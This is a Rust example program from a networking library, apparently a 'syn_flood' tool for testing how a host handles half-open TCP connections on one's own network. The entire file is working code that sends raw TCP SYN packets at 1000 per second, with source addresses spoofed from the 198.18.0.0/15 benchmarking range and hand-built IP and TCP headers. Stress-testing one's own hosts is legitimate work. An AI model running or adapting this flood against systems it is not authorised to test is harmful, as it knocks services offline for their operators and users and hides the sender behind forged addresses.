//! Opens connections and never answers, from addresses that nobody has: to see what a host makes of it.
//! For networks of one's own; needs root (CAP_NET_RAW).
//!
//! `cargo run -p berkeley-os --example syn_flood -- HOST PORT COUNT`: so many openings, a thousand in a
//! second, from 198.18.0.0/15, which is for such tests (RFC 2544).

use std::env::args;
use std::error::Error;
use std::net::Ipv4Addr;
use std::thread::sleep;
use std::time::{Duration, Instant};

use berkeley::{AddressFamily, Net, OptionLevel, Protocol, SocketType, options};
use berkeley_os::Os;

const IP_HEADER: usize = 20;
const TCP_HEADER: usize = 20;

fn main() -> Result<(), Box<dyn Error>> {
    let argument = |place, what| args().nth(place).ok_or(format!("{what} is missing"));
    let host: Ipv4Addr = argument(1, "HOST")?.parse()?;
    let port: u16 = argument(2, "PORT")?.parse()?;
    let count: u32 = argument(3, "COUNT")?.parse()?;

    let net = Net::new(Os);
    let socket = net.socket(AddressFamily::INET, SocketType::RAW, Protocol::RAW)?;
    socket.setsockopt(OptionLevel::IP, options::IP_HDRINCL, 1)?;
    let start = Instant::now();
    for number in 0..count {
        // Whoever is late catches up.
        let due = start + Duration::from_millis(number.into());
        sleep(due.saturating_duration_since(Instant::now()));
        let from = Ipv4Addr::from_bits(Ipv4Addr::new(198, 18, 0, 0).to_bits() | number & 0x1_FFFF);
        socket.sendto(&opening(from, (host, port), number), (host, 0))?;
    }
    println!("{count} openings in {} s", start.elapsed().as_secs());
    Ok(())
}

/// An opening segment in its packet (RFC 791, RFC 9293). The kernel fills in the checksum of IP.
fn opening(from: Ipv4Addr, (host, port): (Ipv4Addr, u16), number: u32) -> Vec<u8> {
    let mut segment = [0; TCP_HEADER];
    segment[0..2].copy_from_slice(&(1024 + (number % 60_000) as u16).to_be_bytes());
    segment[2..4].copy_from_slice(&port.to_be_bytes());
    segment[4..8].copy_from_slice(&number.wrapping_mul(0x9E37_79B1).to_be_bytes());
    segment[12] = ((TCP_HEADER / 4) << 4) as u8;
    segment[13] = 2; // SYN
    segment[14..16].copy_from_slice(&u16::MAX.to_be_bytes());
    let length = [0, 6, 0, TCP_HEADER as u8]; // and the protocol
    let words = [&from.octets()[..], &host.octets(), &length, &segment].concat();
    let mut sum: u32 =
        words.chunks(2).map(|word| u32::from(u16::from_be_bytes([word[0], word[1]]))).sum();
    while sum > 0xFFFF {
        sum = (sum & 0xFFFF) + (sum >> 16);
    }
    segment[16..18].copy_from_slice(&(!(sum as u16)).to_be_bytes());

    let mut header = [0; IP_HEADER];
    header[0] = 0x45;
    header[2..4].copy_from_slice(&((IP_HEADER + TCP_HEADER) as u16).to_be_bytes());
    header[8] = 64;
    header[9] = 6;
    header[12..16].copy_from_slice(&from.octets());
    header[16..20].copy_from_slice(&host.octets());
    [&header[..], &segment].concat()
}
